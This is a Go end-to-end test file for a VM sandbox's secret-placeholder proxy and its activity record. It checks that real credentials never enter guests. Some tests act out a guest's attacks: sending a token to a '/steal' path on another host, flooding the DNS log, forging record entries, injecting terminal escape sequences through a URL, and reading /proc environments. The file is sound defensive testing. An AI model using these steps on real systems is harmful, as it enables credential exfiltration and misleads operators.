//go:build e2e

package e2e

import (
	"archive/tar"
	"crypto/rand"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/banger-dev/banger/internal/kit/testkit"
	"github.com/banger-dev/banger/internal/wire/api"
)

// seen is what a test server received: one line per request, "PROTO
// PATH AUTHORIZATION".
type seen struct {
	mu    sync.Mutex
	lines []string
}

func (s *seen) add(r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.lines = append(s.lines, r.Proto+" "+r.URL.Path+" "+r.Header.Get("Authorization"))
}

// last is the last request's line whose path is path.
func (s *seen) last(path string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	for i := len(s.lines) - 1; i >= 0; i-- {
		if strings.Fields(s.lines[i] + " x")[1] == path {
			return s.lines[i]
		}
	}
	return ""
}

// serveTLSIn serves h over HTTPS (HTTP/2 and 1.1) on addr in namespace
// ns, with cert.
func serveTLSIn(t *testing.T, ns, addr string, cert tls.Certificate, h http.Handler) {
	t.Helper()
	ln := listenIn(t, ns, addr)
	srv := &http.Server{Handler: h, TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}}
	go srv.ServeTLS(ln, "", "")
	t.Cleanup(func() { srv.Close() })
}

// secretsZone are the outside's HTTPS servers.
var secretsZone = map[string]string{
	"api.test.": "203.0.113.41", "other.test.": "203.0.113.42", "git.test.": "203.0.113.43", "bad.test.": "203.0.113.44",
}

// TestSecrets gives VMs secrets that never enter them: in the network
// namespace harness, HTTPS servers in "outside" (certificates from a CA
// the test makes, which the daemon is told to trust) record the
// credentials they receive. The guest holds placeholders; the host's
// proxy puts the real value in requests to the secret's hosts only.
func TestSecrets(t *testing.T) {
	t.Parallel()
	testkit.NeedRoot(t, "network namespaces")
	testkit.NeedTools(t, "iproute2", "ip")
	testkit.NeedTools(t, "passt", "passt")
	testkit.NeedTools(t, "curl", "curl")
	testkit.NeedTools(t, "git", "git")
	e, base := netEnv(t, func(e *env, reg string) {
		ents := hostBinsLayer(t, "/usr/bin/curl", "/usr/bin/git", "/usr/lib/git-core/git-remote-https")
		bundle, err := os.ReadFile("/etc/ssl/certs/ca-certificates.crt")
		if err != nil {
			t.Fatal("needs the host's CA bundle (apt-get install ca-certificates); .ci/run installs it")
		}
		// The image's own bundle, which the proxy's CA joins in the guest.
		ents = append(ents, ent{name: "etc/ssl/", typ: tar.TypeDir}, ent{name: "etc/ssl/certs/", typ: tar.TypeDir},
			ent{name: "etc/ssl/certs/ca-certificates.crt", body: string(bundle), mode: 0o644})
		ref := reg + "/test/tools:1"
		push(t, ref, image(t, gzipLayer(t, tarOf(t, append(busyboxLayer(t), ents...)))))
		e.mustBanger("image", "pull", ref, "--name", "tools")
	})
	host, outside := hostAndOutside(t, "bsh", "bso")
	for _, ip := range secretsZone {
		ipCmd(t, "-n", outside, "addr", "add", ip+"/32", "dev", "lo")
	}
	serveZone(t, outside, outsideAddr+":53", secretsZone)
	ca, rogue := testkit.TestCA(t, "test CA"), testkit.TestCA(t, "a CA nobody trusts")
	api1, other := &seen{}, &seen{}
	record := func(s *seen) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			s.add(r)
			// Never the credential back: the guest must not see it.
			io.WriteString(w, "ok from "+r.Host+"\n")
		})
	}
	serveTLSIn(t, outside, secretsZone["api.test."]+":443", ca.MustLeaf(t, "api.test"), record(api1))
	serveTLSIn(t, outside, secretsZone["other.test."]+":443", ca.MustLeaf(t, "other.test"), record(other))
	serveTLSIn(t, outside, secretsZone["bad.test."]+":443", rogue.MustLeaf(t, "bad.test"), record(&seen{}))

	// The secrets' values: from files the CLI reads with its rights.
	tok, otherTok := "tok_"+randHex(t, 20), "oth_"+randHex(t, 20)
	secretsDir := filepath.Join(e.dir, "user")
	os.MkdirAll(secretsDir, 0o700)
	os.WriteFile(filepath.Join(secretsDir, "tok"), []byte(tok+"\n"), 0o600)
	os.WriteFile(filepath.Join(secretsDir, "other"), []byte(otherTok), 0o600)
	userCfg := filepath.Join(secretsDir, "config.toml")
	os.WriteFile(userCfg, []byte(fmt.Sprintf(`[secrets.tok]
from_file = %q
hosts = ["api.test", "git.test", "bad.test"]
env = "TOK"

[secrets.other]
from_file = %q
hosts = ["other.test"]
env = "OTHER"
file = "~/.config/other/token"
`, filepath.Join(secretsDir, "tok"), filepath.Join(secretsDir, "other"))), 0o644)
	e.extraEnv = []string{"BANGER_CONFIG=" + userCfg}

	// A repository behind git http-backend that wants tok as a Basic
	// password.
	bare := filepath.Join(e.dir, "git", "repo.git")
	gitSrc := filepath.Join(e.dir, "git-src")
	for _, args := range [][]string{
		{"init", "-q", "--bare", bare},
		{"init", "-q", "-b", "main", gitSrc},
		{"-C", gitSrc, "-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "hello from git.test"},
		{"-C", gitSrc, "push", "-q", bare, "main"},
		{"-C", bare, "symbolic-ref", "HEAD", "refs/heads/main"},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	gitSeen := &seen{}
	backend := &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Env: []string{"GIT_PROJECT_ROOT=" + filepath.Dir(bare), "GIT_HTTP_EXPORT_ALL=1"}}
	serveTLSIn(t, outside, secretsZone["git.test."]+":443", ca.MustLeaf(t, "git.test"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gitSeen.add(r)
		if _, pass, ok := r.BasicAuth(); !ok || pass != tok {
			w.Header().Set("WWW-Authenticate", `Basic realm="git.test"`)
			http.Error(w, "who are you?", http.StatusUnauthorized)
			return
		}
		backend.ServeHTTP(w, r)
	}))

	caFile := filepath.Join(e.dir, "test-ca.pem")
	os.WriteFile(caFile, ca.PEM, 0o644)
	e.netns = host
	if err := os.WriteFile(e.config, []byte(base+fmt.Sprintf("dns_upstream = %q\nproxy_ca_files = [%q]\nactivity_events = %d\n", outsideAddr, caFile, floodBound)), 0o644); err != nil {
		t.Fatal(err)
	}
	e.start()

	// An unknown secret makes no VM.
	if _, errOut, code := e.banger("vm", "run", "--name", "nope", "--image", "tools", "--secret", "nosuch", "--", "true"); code == 0 || !strings.Contains(errOut, `no secret "nosuch"`) {
		t.Errorf("--secret nosuch: exit %d, %s", code, errOut)
	}
	if vs := e.vms(); len(vs) != 0 {
		t.Errorf("a VM was made for an unknown secret: %v", vmNames(vs))
	}

	// Nothing written before the values existed can hold them.
	given := time.Now()
	_, errOut, code := e.banger("vm", "run", "--name", "s1", "--image", "tools", "--secret", "tok", "--secret", "other", "--", "true")
	if code != 0 || !strings.Contains(errOut, "gave vm s1 secret tok") {
		t.Fatalf("vm run --secret: exit %d\n%s", code, errOut)
	}
	sh := func(vm, script string) string {
		e.t.Helper()
		out, errOut, code := e.banger("vm", "exec", vm, "--", "sh", "-c", script)
		if code != 0 {
			e.t.Fatalf("%s: exit %d\n%s%s", script, code, out, errOut)
		}
		return out
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("the daemon's log:\n%s", tail(e.log.String(), 60))
		}
	})
	ph := strings.TrimSpace(sh("s1", "echo $TOK"))
	if ph == tok || !strings.HasPrefix(ph, "tok_") || len(ph) != len(tok) {
		t.Fatalf("the guest's $TOK is %q: want a placeholder shaped as the value (prefix tok_, %d chars)", ph, len(tok))
	}
	if f := sh("s1", "cat ~/.config/other/token"); f == otherTok || !strings.HasPrefix(f, "oth_") {
		t.Errorf("the guest's token file holds %q, want a placeholder", f)
	}

	t.Run("the real value reaches the secret's host: a Bearer header, a Basic credential", func(t *testing.T) {
		defer e.use(t)()
		if out := sh("s1", `curl -sS -H "Authorization: Bearer $TOK" https://api.test/bearer`); out != "ok from api.test\n" {
			t.Errorf("curl api.test: %q", out)
		}
		if got := api1.last("/bearer"); !strings.HasSuffix(got, " Bearer "+tok) {
			t.Errorf("api.test received %q, want the real value", got)
		}
		sh("s1", `curl -sS -u x:$TOK https://api.test/basic`)
		if got, want := api1.last("/basic"), "Basic "+base64.StdEncoding.EncodeToString([]byte("x:"+tok)); !strings.HasSuffix(got, want) {
			t.Errorf("api.test received %q, want %q", got, want)
		}
		// The guest's trust store holds the proxy's CA: curl trusts it
		// without the variables too.
		if out := sh("s1", `env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS -H "Authorization: Bearer $TOK" https://api.test/bundle`); out != "ok from api.test\n" {
			t.Errorf("curl with the image's bundle path: %q", out)
		}
	})

	t.Run("HTTP/2 through the proxy; a certificate that does not verify is refused clearly", func(t *testing.T) {
		defer e.use(t)()
		if v := sh("s1", `curl -sS --http2 -o /dev/null -w '%{http_version}' -H "Authorization: Bearer $TOK" https://api.test/h2`); v != "2" {
			t.Errorf("curl --http2 spoke HTTP/%s to the proxy", v)
		}
		if got := api1.last("/h2"); !strings.HasSuffix(got, " Bearer "+tok) {
			t.Errorf("api.test received %q over HTTP/2", got)
		}
		out, _, _ := e.banger("vm", "exec", "s1", "--", "sh", "-c", `curl -sS -H "Authorization: Bearer $TOK" https://bad.test/`)
		if !strings.Contains(out, "certificate") || !strings.Contains(out, "bad.test") {
			t.Errorf("curl bad.test: %q, want the proxy's refusal naming the certificate", out)
		}
	})

	t.Run("a placeholder sent where it may not go goes out as it is, and is recorded", func(t *testing.T) {
		defer e.use(t)()
		sh("s1", `curl -sS -H "Authorization: Bearer $TOK" https://other.test/steal`)
		if got := other.last("/steal"); !strings.HasSuffix(got, " Bearer "+ph) {
			t.Errorf("other.test received %q, want the placeholder %s", got, ph)
		}
		sh("s1", `curl -sS -H "Authorization: token $OTHER" https://other.test/mine`)
		if got := other.last("/mine"); !strings.HasSuffix(got, " token "+otherTok) {
			t.Errorf("other.test received %q for its own secret", got)
		}
		v := e.vm("s1")
		var tokRec api.VMSecret
		for _, s := range v.Secrets {
			if s.Name == "tok" {
				tokRec = s
			}
		}
		if !tokRec.Held || tokRec.Uses < 3 || len(tokRec.Attempts) != 1 || tokRec.Attempts[0].Host != "other.test" {
			t.Errorf("vm show's record of tok: %+v", tokRec)
		}
		if show := e.mustBanger("vm", "show", "s1"); !strings.Contains(show, "ATTEMPT") || !strings.Contains(show, "other.test") {
			t.Errorf("vm show does not show the attempt:\n%s", show)
		}
		if log := e.log.String(); !strings.Contains(log, "secret placeholder sent where its value may not go") || !strings.Contains(log, "other.test") {
			t.Errorf("the daemon's log does not name the attempt")
		}
	})

	t.Run("another member of the group can neither see s1's secrets nor drop them", func(t *testing.T) {
		defer e.use(t)()
		for _, args := range [][]string{{"vm", "restart", "s1"}, {"vm", "stop", "s1"}, {"vm", "rm", "-f", "s1"}, {"vm", "show", "s1"}, {"vm", "start", "s1", "--secret", "tok"}} {
			if out, errOut, code := e.bangerAsNobody(args...); code == 0 || strings.Contains(out+errOut, "tok_") {
				t.Errorf("nobody's %v: exit %d\n%s%s", args, code, out, errOut)
			}
		}
		sh("s1", `curl -sS -H "Authorization: Bearer $TOK" https://api.test/after-nobody`)
		if got := api1.last("/after-nobody"); !strings.HasSuffix(got, " Bearer "+tok) {
			t.Errorf("after another member's tries, api.test received %q, want the real value still", got)
		}
	})

	t.Run("git clone over HTTPS with the placeholder in a credential helper", func(t *testing.T) {
		defer e.use(t)()
		out := sh("s1", `git -c credential.helper='!f() { echo username=x; echo password=$TOK; }; f' clone -q https://git.test/repo.git /root/r 2>&1; git -C /root/r log --format=%s -1`)
		if !strings.Contains(out, "hello from git.test") {
			t.Errorf("git clone: %q\nthe server saw: %v", out, gitSeen.lines)
		}
	})

	t.Run("the real value is nowhere in the guest, its snapshot or the state directory", func(t *testing.T) {
		defer e.use(t)()
		out := sh("s1", "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; cat ~/.config/other/token /run/banger/lent/* 2>/dev/null; true")
		for _, v := range []string{tok, otherTok} {
			if strings.Contains(out, v) {
				t.Errorf("the guest's environment or lent files hold a real value")
			}
		}
		if !strings.Contains(out, ph) {
			t.Errorf("the guest's environment lacks the placeholder (the probe proves nothing)")
		}
		e.mustBanger("vm", "snapshot", "s1", "snap1", "--with-lent")
		// Every file written since the values existed, disks aside (the
		// owner test says why): the value never entered the guest, so
		// only memory and what the daemon wrote could hold it. Images,
		// kernels and the modules disk are older, and their gigabyte is
		// not read again.
		found := grepSince(t, e.stateDir, given, tok, otherTok, ph)
		for _, v := range []string{tok, otherTok} {
			if len(found[v]) > 0 {
				t.Errorf("a real value found under the state directory: %v", found[v])
			}
		}
		if len(found[ph]) == 0 {
			t.Errorf("the placeholder is nowhere under the state directory: the search proves nothing")
		}
		if strings.Contains(e.log.String(), tok) || strings.Contains(e.log.String(), otherTok) {
			t.Errorf("the daemon's log holds a real value")
		}
		e.mustBanger("vm", "snapshot", "rm", "snap1")
	})

	t.Run("after vm rm, its placeholder means nothing through another VM's proxy", func(t *testing.T) {
		defer e.use(t)()
		e.mustBanger("vm", "run", "--name", "s2", "--image", "tools", "--secret", "tok", "--", "true")
		if ph2 := strings.TrimSpace(sh("s2", "echo $TOK")); ph2 == ph {
			t.Fatalf("two VMs share a placeholder")
		}
		e.mustBanger("vm", "rm", "-f", "s1")
		sh("s2", fmt.Sprintf(`curl -sS -H "Authorization: Bearer %s" https://api.test/after-rm`, ph))
		if got := api1.last("/after-rm"); !strings.HasSuffix(got, " Bearer "+ph) {
			t.Errorf("s1's placeholder through s2's proxy reached api.test as %q", got)
		}
		e.mustBanger("vm", "rm", "-f", "s2")
	})

	t.Run("banger mcp --secret: the agent sees the placeholder only", func(t *testing.T) {
		defer e.use(t)()
		server := e.write("mcp-secret", fmt.Sprintf("#!/bin/sh\nexec %s mcp --secret tok\n", bangerBin))
		os.Chmod(server, 0o755)
		in := &inspector{t: t, bin: mcpInspector(t), e: e, dir: e.dir, server: server}
		var created struct {
			Name string `json:"name"`
		}
		in.call(&created, false, "sandbox_create", "image=tools", "no_workdir=true")
		var x struct {
			ExitCode int    `json:"exit_code"`
			Stdout   string `json:"stdout"`
		}
		in.call(&x, false, "sandbox_exec", "vm="+created.Name, "command=env")
		if x.ExitCode != 0 || !strings.Contains(x.Stdout, "TOK=tok_") || strings.Contains(x.Stdout, tok) {
			t.Errorf("sandbox_exec env: exit %d, the placeholder shown: %v, the value shown: %v", x.ExitCode, strings.Contains(x.Stdout, "TOK=tok_"), strings.Contains(x.Stdout, tok))
		}
		in.call(nil, false, "sandbox_remove", "vm="+created.Name, "force=true")
	})

	t.Run("the activity record: commands by CLI and MCP, lookups, connections, secrets, kept across a restart, noted on the pulled branch", func(t *testing.T) {
		defer e.use(t)()
		activityRecord(t, e, sh, tok)
	})

}

// activityRecord: a VM under --egress allow=api.test with a secret does
// through the CLI and MCP what an agent does (git status, curl through
// the proxy and past it, a refused name and connection); its record,
// read as JSON, holds each, from the host's side; it is the same after
// vm stop and a daemon restart; vm pull notes it on the branch; another
// member of the group cannot read it.
func activityRecord(t *testing.T, e *env, sh func(vm, script string) string, tok string) {
	repo := filepath.Join(e.dir, "act-repo")
	gitRepo(t, repo)
	e.cwd = repo
	defer func() { e.cwd = "" }()
	began := time.Now()
	e.mustBanger("vm", "run", "--name", "r1", "--image", "tools", "--egress", "allow=api.test", "--secret", "tok", "--", "true")
	run := func(script string, want int) {
		t.Helper()
		if out, errOut, code := e.banger("vm", "exec", "r1", "--", "sh", "-c", script); code != want {
			t.Fatalf("%s: exit %d, want %d\n%s%s", script, code, want, out, errOut)
		}
	}
	run("cd /work && git status --short >/dev/null", 0)
	run(`curl -sS -H "Authorization: Bearer $TOK" https://api.test/act`, 0) // through the proxy
	run("curl -sS https://other.test/act", 56)                              // the proxy refuses: not allowed
	run("curl -sSk --noproxy '*' https://api.test/direct", 0)               // the guest's own lookup and connection
	run("curl -sS --noproxy '*' https://other.test/direct", 6)              // NXDOMAIN: refused by the policy
	run("echo outside > /root/outside.txt", 0)
	server := e.write("mcp-all", fmt.Sprintf("#!/bin/sh\nexec %s mcp --all\n", bangerBin))
	os.Chmod(server, 0o755)
	in := &inspector{t: t, bin: mcpInspector(t), e: e, dir: repo, server: server}
	var x struct {
		ExitCode int `json:"exit_code"`
	}
	in.call(&x, false, "sandbox_exec", "vm=r1", "command=git status --short")
	if x.ExitCode != 0 {
		t.Fatalf("sandbox_exec git status: exit %d", x.ExitCode)
	}

	report := func() api.ActivityReport {
		t.Helper()
		var rep api.ActivityReport
		if err := json.Unmarshal([]byte(e.mustBanger("vm", "report", "r1", "-o", "json")), &rep); err != nil {
			t.Fatal(err)
		}
		return rep
	}
	rep := report()
	has := func(what string, match func(ev api.ActivityEvent) bool) {
		t.Helper()
		for _, ev := range rep.Events {
			if match(ev) {
				return
			}
		}
		t.Errorf("the record has no %s", what)
	}
	me := uint32(os.Getuid())
	command := func(via, sub string, exit int) func(api.ActivityEvent) bool {
		return func(ev api.ActivityEvent) bool {
			return ev.Kind == api.ActCommand && ev.Via == via && strings.Contains(strings.Join(ev.Argv, " "), sub) &&
				ev.Exit != nil && *ev.Exit == exit && ev.UID != nil && *ev.UID == me && !ev.Time.Before(began)
		}
	}
	has("CLI git status, exit 0", command(api.ViaCLI, "git status", 0))
	has("CLI curl through the proxy, exit 0", command(api.ViaCLI, "https://api.test/act", 0))
	has("CLI curl refused by the proxy, exit 56", command(api.ViaCLI, "https://other.test/act", 56))
	has("CLI curl of a refused name, exit 6", command(api.ViaCLI, "https://other.test/direct", 6))
	has("MCP git status, exit 0, in /work", func(ev api.ActivityEvent) bool {
		return command(api.ViaMCP, "git status", 0)(ev) && ev.Dir == "/work"
	})
	has("the lookup of api.test, allowed", func(ev api.ActivityEvent) bool {
		return ev.Kind == api.ActLookup && ev.Host == "api.test" && ev.Action == "allowed" && ev.Via == api.ViaGuest
	})
	has("the lookup of other.test, refused", func(ev api.ActivityEvent) bool {
		return ev.Kind == api.ActLookup && ev.Host == "other.test" && ev.Action == "refused"
	})
	has("the connection to api.test:443, allowed", func(ev api.ActivityEvent) bool {
		return ev.Kind == api.ActConnection && ev.Addr == "api.test:443" && ev.Action == "allowed"
	})
	has("the connection to other.test:443, refused", func(ev api.ActivityEvent) bool {
		return ev.Kind == api.ActConnection && ev.Addr == "other.test:443" && ev.Action == "refused"
	})
	has("tok's use for api.test", func(ev api.ActivityEvent) bool {
		return ev.Kind == api.ActSecret && ev.Action == "use" && ev.Secret == "tok" && ev.Host == "api.test" && ev.URL == "/act"
	})
	has("the seed of /work", func(ev api.ActivityEvent) bool {
		return ev.Kind == api.ActFile && ev.Action == "seed" && strings.Contains(ev.Detail, repo)
	})
	has("the secrets given, by name", func(ev api.ActivityEvent) bool {
		return ev.Kind == api.ActFile && ev.Action == "secrets" && len(ev.Names) == 1 && ev.Names[0] == "tok"
	})
	for _, a := range []string{"create", "start"} {
		has("lifecycle "+a, func(ev api.ActivityEvent) bool { return ev.Kind == api.ActLifecycle && ev.Action == a })
	}
	// The record holds names and no value: the guest's placeholder and
	// the real value are nowhere in it.
	if raw := e.mustBanger("vm", "report", "r1", "-o", "json"); strings.Contains(raw, tok) {
		t.Error("the record holds the secret's value")
	}
	if text := e.mustBanger("vm", "report", "r1"); !strings.Contains(text, "commands     8 run through banger, 2 failed") || !strings.Contains(text, "other.test refused") {
		t.Errorf("vm report:\n%s", text)
	}
	// Another member of the group: no such VM, no record.
	if out, errOut, code := e.bangerAsNobody("vm", "report", "r1"); code == 0 || strings.Contains(out, "api.test") {
		t.Errorf("nobody's vm report r1: exit %d\n%s%s", code, out, errOut)
	}

	// The root disk's changes need a stopped VM, and then show the file
	// the guest wrote outside /work.
	if _, errOut, code := e.banger("vm", "report", "r1", "--changes"); code == 0 || !strings.Contains(errOut, "is running") {
		t.Errorf("vm report --changes of a running VM: exit %d, %s", code, errOut)
	}
	// Kept across a stop and a daemon restart, the same.
	e.mustBanger("vm", "stop", "r1")
	var withChanges struct {
		Changes api.RootChanges `json:"changes"`
	}
	if err := json.Unmarshal([]byte(e.mustBanger("vm", "report", "r1", "--changes", "-o", "json")), &withChanges); err != nil {
		t.Fatal(err)
	}
	added := map[string]api.FileChange{}
	for _, f := range withChanges.Changes.Added {
		added[f.Path] = f
	}
	if f, ok := added["root/outside.txt"]; !ok || f.Type != "file" || f.Size != int64(len("outside\n")) {
		t.Errorf("the root disk's changes lack /root/outside.txt: %+v", withChanges.Changes)
	}
	for _, f := range append(withChanges.Changes.Added, withChanges.Changes.Changed...) {
		if strings.HasPrefix(f.Path, "work/") || strings.HasPrefix(f.Path, ".banger/") {
			t.Errorf("the root disk's changes list %s, which is /work's or banger's own", f.Path)
		}
	}
	if text := e.mustBanger("vm", "report", "r1", "--changes"); !strings.Contains(text, "+ /root/outside.txt (file, 8 B)") {
		t.Errorf("vm report --changes:\n%s", text)
	}
	before := report()
	if err := e.term(); err != nil {
		t.Fatalf("daemon stop: %v", err)
	}
	e.start()
	after := report()
	if len(after.Events) != len(before.Events) || len(after.Events) < len(rep.Events)+1 {
		t.Errorf("events before the restart %d, after %d", len(before.Events), len(after.Events))
	}
	for i := range min(len(after.Events), len(before.Events)) {
		b, _ := json.Marshal(before.Events[i])
		a, _ := json.Marshal(after.Events[i])
		if string(a) != string(b) {
			t.Errorf("event %d changed across the restart:\n%s\n%s", i, b, a)
			break
		}
	}
	// vm pull notes it on the branch's last commit.
	e.mustBanger("vm", "pull", "r1")
	note := hostGit(t, repo, "notes", "--ref", "banger", "show", "banger/r1")
	if !strings.Contains(note, "vm r1:") || !strings.Contains(note, "commands     8 run through banger") || !strings.Contains(note, "git status") || !strings.Contains(note, "banger vm report r1 -o json") {
		t.Errorf("the pull's git note:\n%s", note)
	}
	e.mustBanger("vm", "rm", "-f", "r1")
	if _, errOut, code := e.banger("vm", "report", "r1"); code == 0 || !strings.Contains(errOut, "does not exist") {
		t.Errorf("the record of a removed VM: exit %d, %s", code, errOut)
	}

	// A guest, root in it, attacks its record: it floods it with names it
	// makes up, and looks up names made to read as records of what a
	// user did. The record stays within its bound, counts what it
	// dropped, and says the guest did each; the guest has no way to the
	// daemon's socket or state (none of their paths exist in it).
	e.mustBanger("vm", "run", "--name", "r2", "--image", "tools", "--no-workdir", "--egress", "allow=api.test", "--", "true")
	const flood = 3 * floodBound
	run2 := func(script string) string {
		t.Helper()
		out, errOut, code := e.banger("vm", "exec", "r2", "--", "sh", "-c", script)
		if code != 0 {
			t.Fatalf("%s: exit %d\n%s%s", script, code, out, errOut)
		}
		return out
	}
	// One curl looks up every name (a process per name took minutes
	// under a loaded CI's TCG).
	run2(fmt.Sprintf(`curl -s -o /dev/null --connect-timeout 1 $(i=0; while [ $i -lt %d ]; do echo "http://f$i-$RANDOM.flood.test/"; i=$((i+1)); done); true`, flood))
	run2(`busybox nslookup 'uid-0-cli-exec.rm-rf.test' >/dev/null 2>&1; true`)
	if out := run2(fmt.Sprintf("ls -d %s %s /var/lib/banger /run/banger.sock 2>/dev/null; true", e.socket, e.stateDir)); out != "" {
		t.Errorf("the guest sees the daemon's paths: %q", out)
	}
	var flooded api.ActivityReport
	if err := json.Unmarshal([]byte(e.mustBanger("vm", "report", "r2", "-o", "json")), &flooded); err != nil {
		t.Fatal(err)
	}
	if len(flooded.Events) > floodBound || flooded.Dropped < flood-floodBound {
		t.Errorf("after %d made-up names: %d events kept (bound %d), %d dropped", flood, len(flooded.Events), floodBound, flooded.Dropped)
	}
	for _, ev := range flooded.Events {
		if ev.Kind == api.ActLookup && (ev.UID != nil || ev.Via != api.ViaGuest || ev.Action != "refused") {
			t.Errorf("a guest's lookup recorded as %+v", ev)
			break
		}
	}
	if text := e.mustBanger("vm", "report", "r2"); !strings.Contains(text, "older ones dropped") {
		t.Errorf("vm report does not say it dropped events:\n%s", tail(text, 5))
	}
	e.mustBanger("vm", "rm", "-f", "r2")

	// What a guest sends through the proxy goes on the record bounded,
	// and reaches the reader's terminal escaped: a 4 KiB URL path with
	// an escape sequence in it.
	e.mustBanger("vm", "run", "--name", "r3", "--image", "tools", "--no-workdir", "--secret", "tok", "--", "true")
	if out, errOut, code := e.banger("vm", "exec", "r3", "--", "sh", "-c", `curl -sS -H "Authorization: Bearer $TOK" "https://api.test/%1b%5b2J%1b%5d0;owned%07$(head -c 4000 /dev/zero | tr '\0' a)"`); code != 0 {
		t.Fatalf("curl a hostile path: exit %d\n%s%s", code, out, errOut)
	}
	var hostile api.ActivityReport
	if err := json.Unmarshal([]byte(e.mustBanger("vm", "report", "r3", "-o", "json")), &hostile); err != nil {
		t.Fatal(err)
	}
	used := false
	for _, ev := range hostile.Events {
		if ev.Kind == api.ActSecret {
			used = true
			if len(ev.URL) > 1024 || !strings.HasPrefix(ev.URL, "/\x1b[2J") {
				t.Errorf("the hostile path recorded as %d bytes: %.40q", len(ev.URL), ev.URL)
			}
		}
	}
	if !used {
		t.Error("the secret's use with a hostile path is not on the record")
	}
	if text := e.mustBanger("vm", "report", "r3"); strings.ContainsAny(text, "\x1b\x07") || !strings.Contains(text, `\x1b[2J`) {
		t.Errorf("vm report passes the guest's control characters to the terminal:\n%.300q", text)
	}
	e.mustBanger("vm", "rm", "-f", "r3")
}

// floodBound is TestSecrets' daemon's activity_events: small, so that a
// guest's flood crosses it in seconds.
const floodBound = 200

// grepSince lists, for each needle, the files under dir written since
// since (disks aside, as grepTree) that hold it, in one pass.
func grepSince(t *testing.T, dir string, since time.Time, needles ...string) map[string][]string {
	t.Helper()
	found := map[string][]string{}
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil || !fi.Mode().IsRegular() || fi.ModTime().Before(since) || strings.HasSuffix(p, ".raw") || strings.HasSuffix(p, ".qcow2") || filepath.Base(p) == "base" {
			return nil
		}
		for _, n := range needles {
			if fileHolds(t, p, []byte(n)) {
				found[n] = append(found[n], p)
			}
		}
		return nil
	})
	return found
}

// tail is the last n lines of s.
func tail(s string, n int) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	return strings.Join(lines[max(0, len(lines)-n):], "\n")
}

func randHex(t *testing.T, n int) string {
	b := make([]byte, n)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}
